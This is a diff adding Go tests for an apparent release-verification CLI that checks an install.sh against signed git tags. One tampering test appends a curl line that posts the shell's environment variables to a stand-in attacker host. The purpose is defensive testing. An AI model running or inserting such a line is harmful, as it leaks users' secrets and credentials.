@@ -1,0 +1,218 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/go-git/go-git/v5"
+	"github.com/go-git/go-git/v5/plumbing"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func testdataPath(t *testing.T, elem ...string) string {
+	t.Helper()
+	p, err := filepath.Abs(filepath.Join(append([]string{"..", "..", "testdata"}, elem...)...))
+	require.NoError(t, err)
+	return p
+}
+
+// runCLI runs the command line in-process and returns stdout, stderr and the exit code.
+func runCLI(t *testing.T, env map[string]string, args ...string) (string, string, int) {
+	t.Helper()
+	var stdout, stderr bytes.Buffer
+	code := run(context.Background(), envFor(&stdout, &stderr, env), args)
+	return stdout.String(), stderr.String(), code
+}
+
+func envFor(stdout, stderr *bytes.Buffer, kv map[string]string) env {
+	return env{stdout: stdout, stderr: stderr, getenv: func(k string) string { return kv[k] }}
+}
+
+// writeConfig writes a configuration that trusts the fixture repository's maintainers.
+func writeConfig(t *testing.T, tag string, keys string) string {
+	t.Helper()
+	dir := t.TempDir()
+	cfg := `rules:
+  - bucket: uploader-prod
+    objects: [OBJECTS]
+    release:
+      git: ` + testdataPath(t, "git", "uploader.git") + `
+      tag: "` + tag + `"
+    keys:
+` + keys
+	objects := `"install.sh"`
+	if tag == "{tag}" {
+		objects = `"{tag}/install.sh"`
+	}
+	cfg = strings.Replace(cfg, "OBJECTS", objects, 1)
+	p := filepath.Join(dir, "tamperguard.yaml")
+	require.NoError(t, os.WriteFile(p, []byte(cfg), 0o600))
+	return p
+}
+
+func allMaintainerKeys(t *testing.T) string {
+	ssh, err := os.ReadFile(testdataPath(t, "keys", "release_ed25519.pub"))
+	require.NoError(t, err)
+	return `      openpgp: ["` + testdataPath(t, "keys", "maintainer-ed25519.asc") + `", "` + testdataPath(t, "keys", "maintainer-rsa3072.asc") + `"]
+      ssh: ["` + strings.TrimSpace(string(ssh)) + `"]
+`
+}
+
+// releasedInstallSh writes install.sh as the fixture repository tagged it at tag.
+func releasedInstallSh(t *testing.T, tag string) string {
+	t.Helper()
+	repo, err := git.PlainOpen(testdataPath(t, "git", "uploader.git"))
+	require.NoError(t, err)
+	ref, err := repo.Reference(plumbing.NewTagReferenceName(tag), true)
+	require.NoError(t, err)
+	hash := ref.Hash()
+	if to, err := repo.TagObject(hash); err == nil {
+		hash = to.Target
+	}
+	commit, err := repo.CommitObject(hash)
+	require.NoError(t, err)
+	f, err := commit.File("install.sh")
+	require.NoError(t, err)
+	content, err := f.Contents()
+	require.NoError(t, err)
+	p := filepath.Join(t.TempDir(), "install.sh")
+	require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
+	return p
+}
+
+func decodeLine(t *testing.T, stdout string) verifyLine {
+	t.Helper()
+	lines := strings.Split(strings.TrimSpace(stdout), "\n")
+	require.Len(t, lines, 1, "one JSON line on stdout: %q", stdout)
+	var l verifyLine
+	require.NoError(t, json.Unmarshal([]byte(lines[0]), &l))
+	return l
+}
+
+func TestVerifyOK(t *testing.T) {
+	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
+	file := releasedInstallSh(t, "v1.2.0")
+	stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
+	require.Equal(t, exitOK, code, stderr)
+	l := decodeLine(t, stdout)
+	assert.Equal(t, "ok", l.Verdict)
+	assert.Equal(t, "v1.2.0", l.Release)
+	assert.Equal(t, l.ExpectedSHA256, l.ActualSHA256)
+	assert.Regexp(t, `^openpgp:[0-9A-F]{40}$`, l.Signer)
+	assert.Contains(t, stderr, "OK: ")
+	assert.Contains(t, stderr, `newer tag "v1.5.0" was not trusted`)
+}
+
+func TestVerifyTampered(t *testing.T) {
+	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
+	file := releasedInstallSh(t, "v1.2.0")
+	f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
+	require.NoError(t, err)
+	_, err = f.WriteString("curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n")
+	require.NoError(t, err)
+	require.NoError(t, f.Close())
+
+	// Flags after the file work too; the config comes from the environment.
+	stdout, stderr, code := runCLI(t, map[string]string{"TAMPERGUARD_CONFIG_FILE": cfg}, "verify", file, "--object", "gs://uploader-prod/install.sh")
+	require.Equal(t, exitTampered, code, stderr)
+	l := decodeLine(t, stdout)
+	assert.Equal(t, "tampered", l.Verdict)
+	assert.NotEqual(t, l.ExpectedSHA256, l.ActualSHA256)
+	assert.Equal(t, "v1.2.0", l.Release)
+	assert.Contains(t, stderr, "TAMPERED")
+	assert.Contains(t, stderr, "Do not run")
+}
+
+func TestVerifyTagFromObjectName(t *testing.T) {
+	cfg := writeConfig(t, "{tag}", allMaintainerKeys(t))
+	file := releasedInstallSh(t, "v1.1.0")
+	stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "v1.1.0/install.sh", file)
+	require.Equal(t, exitOK, code, stderr)
+	l := decodeLine(t, stdout)
+	assert.Equal(t, "v1.1.0", l.Release)
+	assert.True(t, strings.HasPrefix(l.Signer, "ssh:SHA256:"), l.Signer)
+
+	// The v1.1.0 copy is not what v1.2.0 signed.
+	stdout, _, code = runCLI(t, nil, "verify", "--config", cfg, "--object", "v1.2.0/install.sh", file)
+	assert.Equal(t, exitTampered, code)
+	assert.Equal(t, "tampered", decodeLine(t, stdout).Verdict)
+}
+
+func TestVerifyUnverifiable(t *testing.T) {
+	file := releasedInstallSh(t, "v1.2.0")
+	for _, tt := range []struct {
+		name, tag, reason string
+	}{
+		{"unsigned tag", "v1.3.0", "release_unsigned"},
+		{"wrong key", "v1.4.0", "signature_refused"},
+		{"lightweight tag", "v1.5.0", "release_unsigned"},
+		{"missing tag", "v9.9.9", "release_not_found"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := writeConfig(t, tt.tag, allMaintainerKeys(t))
+			stdout, stderr, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
+			assert.Equal(t, exitError, code)
+			l := decodeLine(t, stdout)
+			assert.Equal(t, "unverifiable", l.Verdict)
+			assert.Equal(t, tt.reason, l.Reason)
+			assert.NotEmpty(t, l.Error)
+			assert.Contains(t, stderr, "UNVERIFIABLE")
+		})
+	}
+	t.Run("entry missing", func(t *testing.T) {
+		cfg := writeConfig(t, "latest", allMaintainerKeys(t))
+		require.NoError(t, os.WriteFile(cfg, []byte(strings.Replace(mustRead(t, cfg), `tag: "latest"`, "tag: latest\n      entry: other.sh", 1)), 0o600))
+		stdout, _, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", file)
+		assert.Equal(t, exitError, code)
+		assert.Equal(t, "entry_missing", decodeLine(t, stdout).Reason)
+	})
+	t.Run("unreadable file", func(t *testing.T) {
+		cfg := writeConfig(t, "latest", allMaintainerKeys(t))
+		stdout, _, code := runCLI(t, nil, "verify", "--config", cfg, "--object", "install.sh", filepath.Join(t.TempDir(), "nope"))
+		assert.Equal(t, exitError, code)
+		assert.Equal(t, "object_unreadable", decodeLine(t, stdout).Reason)
+	})
+}
+
+func mustRead(t *testing.T, p string) string {
+	b, err := os.ReadFile(p)
+	require.NoError(t, err)
+	return string(b)
+}
+
+func TestVerifyUsageErrors(t *testing.T) {
+	cfg := writeConfig(t, "latest", allMaintainerKeys(t))
+	for _, tt := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"verify", "--config", cfg, "file"}, "need --object NAME"},
+		{[]string{"verify", "--config", cfg, "--object", "x"}, "need --object NAME"},
+		{[]string{"verify", "--config", cfg, "--object", "not-covered.sh", "f"}, `no rule in`},
+		{[]string{"verify", "--config", cfg, "--object", "gs://other/install.sh", "f"}, "no rule in"},
+		{[]string{"verify", "--config", cfg, "--object", "gs://nobucketslash", "f"}, "want gs://BUCKET/NAME"},
+		{[]string{"verify", "--object", "install.sh", "f"}, "tamperguard.yaml not found"},
+		{[]string{"verify", "--bogus"}, "flag provided but not defined"},
+		{[]string{"nonsense"}, `unknown command "nonsense"`},
+	} {
+		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
+			t.Chdir(t.TempDir())
+			stdout, stderr, code := runCLI(t, nil, tt.args...)
+			assert.Equal(t, exitError, code)
+			assert.Empty(t, stdout)
+			assert.Contains(t, stderr, tt.want)
+		})
+	}
+	_, stderr, code := runCLI(t, nil, "help")
+	assert.Equal(t, exitOK, code)
+	assert.Contains(t, stderr, "verify")
+	_, stderr, code = runCLI(t, nil, "verify", "-h")
+	assert.Equal(t, exitOK, code)
+	assert.Contains(t, stderr, "--object")
+}
